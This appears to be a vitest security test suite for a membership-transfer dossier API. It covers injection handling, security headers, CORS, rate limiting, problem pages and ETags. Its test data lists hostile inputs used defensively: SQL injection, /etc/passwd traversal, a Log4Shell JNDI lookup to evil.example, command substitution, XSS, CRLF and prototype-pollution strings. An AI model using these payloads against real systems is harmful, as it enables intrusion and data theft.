import { describe, expect, test } from 'vitest';
import { trial } from '../internal/testing/trial.ts';
import { refusalTitles } from '../problem-advice.ts';
import { faultCodes, statusOfRefusal } from '../problems.ts';
import { cast } from '../seed/cast.ts';
import { memoryStore } from '../store/memory.ts';
import { addressName, rateLimit } from './rate-limit.ts';

const { routeC } = cast;
const dossiers = '/v1/official-transfer/dossiers';
const injections = [
  "' OR '1'='1",
  "'; DROP TABLE members; --",
  "x' UNION SELECT personal_id FROM members --",
  '%',
  '_',
  '../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(id)',
  '<script>alert(1)</script>',
  '"\r\nSet-Cookie: a=b',
  '__proto__',
  'constructor',
  'hasOwnProperty',
];

describe('injected into', () => {
  test.each(injections)('a search, %j is a text that nobody is called', async (text) => {
    const at = await trial('transfer/inbox');
    for (const list of ['/v1/organizations', '/v1/members', '/v1/dossiers', dossiers]) {
      const answer = await at.get(routeC.cellSecretary, `${list}?q=${encodeURIComponent(text)}`);
      expect(answer.status, list).toBe(200);
      // Signs that no name has are left out of a search, so what remains of some is nothing, which matches everything.
      if (/[a-z]/i.test(text)) expect(answer.body.items, list).toEqual([]);
    }
  });

  test.each(injections)('an address, %j leads nowhere', async (text) => {
    const at = await trial('transfer/awaiting-cell');
    for (const path of ['/v1/organizations/', '/v1/procedures/', '/v1/attachments/', `${dossiers}/`, '/problems/']) {
      const answer = await at.get(routeC.member, path + encodeURIComponent(text));
      expect([answer.status, answer.body.code], path).toEqual([404, 'NOT_FOUND']);
    }
  });

  test.each(injections.filter((text) => !/[\r\n]/.test(text)))('a header, %j changes nothing', async (text) => {
    const at = await trial('transfer/awaiting-cell', { origins: ['https://cong.example'] });
    const answer = await at.get(routeC.member, '/v1/me', { origin: text, 'if-none-match': text, accept: text });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('access-control-allow-origin')).toBeNull();
    expect(JSON.stringify([...answer.headers])).not.toContain(text);
  });

  test.each(injections)('an answer, %j is kept as it was written and changes no prototype', async (text) => {
    const at = await trial('transfer/draft');
    const address = `${dossiers}/${at.dossierId}`;
    const draft = { event: 'SUBMIT', input: { groundNote: text }, revision: 1 };
    expect((await at.send(routeC.member, 'PUT', `${address}/draft`, draft)).status).toBe(200);
    expect((await at.get(routeC.member, address)).body.draft.input).toEqual({ groundNote: text });
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });
});

test('a body that is not UTF-8 is refused', async () => {
  const at = await trial('transfer/draft');
  await at.get(routeC.member, '/v1/me');
  const answer = await at.server(
    new Request(`http://test${dossiers}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'idempotency-key': 'k' },
      body: Uint8Array.of(0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d),
    }),
  );
  expect(answer.status).toBe(400);
});

describe('every answer', () => {
  const guarded = async (answer: { readonly headers: Headers }): Promise<void> => {
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-resource-policy': 'same-origin',
      'cross-origin-opener-policy': 'same-origin',
      'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
      'cache-control': 'no-store',
      vary: expect.stringContaining('Origin'),
    });
  };

  test('has its guards, whatever it says', async () => {
    const at = await trial('transfer/awaiting-cell', { requestsPerMinute: 6 });
    const address = `${dossiers}/${at.dossierId}`;
    const tag = (await at.get(routeC.member, address)).headers.get('etag')!;
    await guarded(await at.get(routeC.member, '/v1/me'));
    await guarded(await at.get(routeC.member, '/v1/nothing'));
    await guarded(await at.send(routeC.member, 'POST', '/v1/me'));
    await guarded(await at.get(routeC.member, address, { 'if-none-match': tag }));
    await guarded(await at.get('', '/v1/me'));
    await guarded(await at.get(routeC.member, `/v1/me?q=${'x'.repeat(5000)}`));
    await guarded(await at.server(new Request('http://test/v1/me', { method: 'OPTIONS' })));
    await guarded(await at.server(new Request('http://test/v1/me', { method: 'HEAD' })));
    let last = 0;
    for (let n = 0; n < 8; n += 1) {
      const answer = await at.get(routeC.member, '/v1/me');
      await guarded(answer);
      last = answer.status;
    }
    expect(last).toBe(429);
  });

  test('over https says to stay with it', async () => {
    const at = await trial('transfer/none');
    expect((await at.server(new Request('http://test/healthz'))).headers.get('strict-transport-security')).toBeNull();
    expect((await at.server(new Request('https://test/nothing'))).headers.get('strict-transport-security')).toMatch(
      /^max-age=\d{8}/,
    );
  });
});

describe('pages of other sites', () => {
  test('get nothing unless they are named: no permission beforehand, no readable answer, never cookies', async () => {
    const at = await trial('transfer/none', { origins: ['https://cong.example'] });
    const ask = (origin: string) =>
      at.server(
        new Request('http://test/v1/me', {
          method: 'OPTIONS',
          headers: {
            origin,
            'access-control-request-method': 'PUT',
            'access-control-request-headers': 'authorization',
          },
        }),
      );
    const strangers = ['https://evil.example', 'null', 'https://cong.example.evil.example', 'http://cong.example', '*'];
    for (const origin of strangers) {
      const answer = await ask(origin);
      expect([...answer.headers.keys()].filter((name) => name.startsWith('access-control'))).toEqual([]);
      expect(answer.headers.get('vary')).toContain('Origin');
      const read = await at.get(routeC.member, '/v1/me', { origin });
      expect([...read.headers.keys()].filter((name) => name.startsWith('access-control'))).toEqual([]);
    }
    const allowed = await ask('https://cong.example');
    expect(Object.fromEntries(allowed.headers)).toMatchObject({
      'access-control-allow-origin': 'https://cong.example',
      'access-control-allow-methods': 'GET, POST, PUT, DELETE',
      'access-control-allow-headers': expect.stringContaining('If-Match'),
      'access-control-max-age': '600',
      vary: 'Origin, Access-Control-Request-Method, Access-Control-Request-Headers',
    });
    expect(allowed.headers.has('access-control-allow-credentials')).toBe(false);
    const refusal = await at.get(routeC.member, '/v1/nothing', { origin: 'https://cong.example' });
    expect(refusal.headers.get('access-control-allow-origin')).toBe('https://cong.example');
    expect(refusal.headers.get('access-control-expose-headers')).toContain('Retry-After');
  });
});

describe('too many requests', () => {
  test('without a sign-in are counted by address, also where the sign-in is refused', async () => {
    const verify = async (request: Request) =>
      request.headers.has('authorization') ? { personId: routeC.member, acr: 'urn:vneid:loa:2' } : undefined;
    const at = await trial('transfer/none', { identity: { verify }, requestsPerMinuteAndAddress: 3 });
    const from = async (address: string, path: string, headers = {}) =>
      (await at.server(new Request(`http://test${path}`, { headers }), { address })).status;
    expect(await from('10.0.0.1', '/v1/procedures')).toBe(200);
    expect(await from('10.0.0.1', '/v1/me')).toBe(401);
    expect(await from('10.0.0.1', '/problems/NOT_FOUND')).toBe(200);
    expect(await from('10.0.0.1', '/v1/me')).toBe(429);
    expect(await from('10.0.0.1', '/v1/procedures')).toBe(429);
    expect(await from('::ffff:10.0.0.1', '/v1/procedures')).toBe(429);
    // Who watches over the service, who signed in, and who comes from elsewhere is not meant.
    expect(await from('10.0.0.1', '/healthz')).toBe(200);
    expect(await from('10.0.0.1', '/v1/me', { authorization: 'Bearer x' })).toBe(200);
    expect(await from('10.0.0.2', '/v1/procedures')).toBe(200);
  });

  test('are remembered for so many names and no more', () => {
    let now = 0;
    const wait = rateLimit(1, () => now, 100);
    for (let n = 0; n < 10_000; n += 1) wait(`name-${n}`);
    expect(wait.size()).toBe(100);
    expect(wait('name-9999')).toBeGreaterThan(0);
    // Whoever keeps asking stays in memory while strangers come and go.
    for (let n = 0; n < 10_000; n += 1) {
      wait(`other-${n}`);
      if (n % 50 === 0) expect(wait('name-9999')).toBeGreaterThan(0);
    }
    now = 60_000;
    expect(wait('name-9999')).toBe(0);
  });

  test.each([
    ['192.0.2.7', '192.0.2.7'],
    ['::ffff:192.0.2.7', '192.0.2.7'],
    ['2001:db8:1:2:3:4:5:6', '2001:db8:1:2'],
    ['2001:DB8:1:2::9', '2001:db8:1:2'],
    ['2001:db8::1', '2001:db8:0:0'],
    ['::1', '0:0:0:0'],
    ['fe80::1%eth0', 'fe80:0:0:0'],
  ])('%s counts as %s', (address, name) => expect(addressName(address)).toBe(name));
});

describe('the page of a problem', () => {
  test.each([...faultCodes, ...Object.keys(statusOfRefusal)])('%s says in two languages what it is', async (code) => {
    const at = await trial('transfer/none');
    const { status, headers, body } = await at.get('', `/problems/${code}`);
    expect([status, headers.get('content-type')]).toEqual([200, 'text/html; charset=utf-8']);
    expect(body).toContain(`<code translate="no">${code}</code>`);
    expect(body).toMatch(/<h1>[^<]{4,}<\/h1>\n<p>[^<]{10,}<\/p>/);
    expect(body).toMatch(/<section lang="en">\n<h2>[^<]{4,}<\/h2>\n<p>[^<]{10,}<\/p>/);
    expect(headers.get('content-security-policy')).toContain("default-src 'none'");
  });

  test('is where the type of a problem leads', async () => {
    const at = await trial('transfer/none');
    const { body } = await at.get(routeC.member, '/v1/nothing');
    const page = await at.server(new Request(new URL(body.type, 'http://test/v1/nothing')));
    expect([body.type, page.status]).toEqual(['/problems/NOT_FOUND', 200]);
    expect(Object.keys(refusalTitles).toSorted()).toEqual(Object.keys(statusOfRefusal).toSorted());
  });
});

describe('a service that ends', () => {
  test('is not ready, lives, and takes nothing new', async () => {
    const at = await trial('transfer/none');
    expect((await at.get('', '/readyz')).body).toEqual({ status: 'ready' });
    at.server.drain();
    expect([(await at.get('', '/readyz')).status, (await at.get('', '/readyz')).body.status]).toEqual([
      503,
      'draining',
    ]);
    expect((await at.get('', '/healthz')).status).toBe(200);
    const refused = await at.get(routeC.member, '/v1/me');
    expect([refused.status, refused.body.code, refused.headers.get('retry-after')]).toEqual([503, 'UNAVAILABLE', '1']);
  });

  test('is not ready without its store', async () => {
    const store = { ...memoryStore(), read: () => Promise.reject(new Error('connection refused at db.example')) };
    const at = await trial('transfer/none', { store });
    const { status, body } = await at.get('', '/readyz');
    expect([status, body]).toEqual([503, { status: 'unreachable' }]);
    expect((await at.get('', '/healthz')).status).toBe(200);
  });
});

describe('the tag of a dossier', () => {
  const tagOf = async (at: Awaited<ReturnType<typeof trial>>, who: string, headers = {}) => {
    const answer = await at.get(who, `${dossiers}/${at.dossierId}`, headers);
    return { status: answer.status, tag: answer.headers.get('etag')! };
  };

  test('differs by day and reader, so that nobody keeps yesterday’s tasks', async () => {
    const at = await trial('transfer/awaiting-cell');
    const [officer, member] = [await tagOf(at, routeC.cellSecretary), await tagOf(at, routeC.member)];
    expect(officer.tag).not.toBe(member.tag);
    expect((await tagOf(at, routeC.member, { 'if-none-match': member.tag })).status).toBe(304);
    expect((await tagOf(at, routeC.member, { 'if-none-match': officer.tag })).status).toBe(200);
    expect((await tagOf(at, routeC.member, { 'if-none-match': `"x", W/${member.tag}` })).status).toBe(304);
    // The deadline of the step passes: the same revision, another answer.
    at.clock.advance({ days: 60 });
    expect((await tagOf(at, routeC.member, { 'if-none-match': member.tag })).status).toBe(200);
  });

  test('goes back into If-Match as it came, or as the revision alone', async () => {
    const at = await trial('transfer/awaiting-cell');
    const { tag } = await tagOf(at, routeC.member);
    const accept = (ifMatch: string) =>
      at.send(
        routeC.cellSecretary,
        'POST',
        `${dossiers}/${at.dossierId}/accept`,
        {},
        { headers: { 'if-match': ifMatch } },
      );
    expect((await accept('"1.0123456789abcdef"')).status).toBe(412);
    expect((await accept('"2.short"')).status).toBe(400);
    // What the member read is good for the officer's act: the revision says what was seen, the rest is the reader's own.
    expect((await accept(tag)).status).toBe(200);
    expect((await accept(`${tag.slice(0, tag.indexOf('.'))}"`)).status).toBe(412);
  });
});
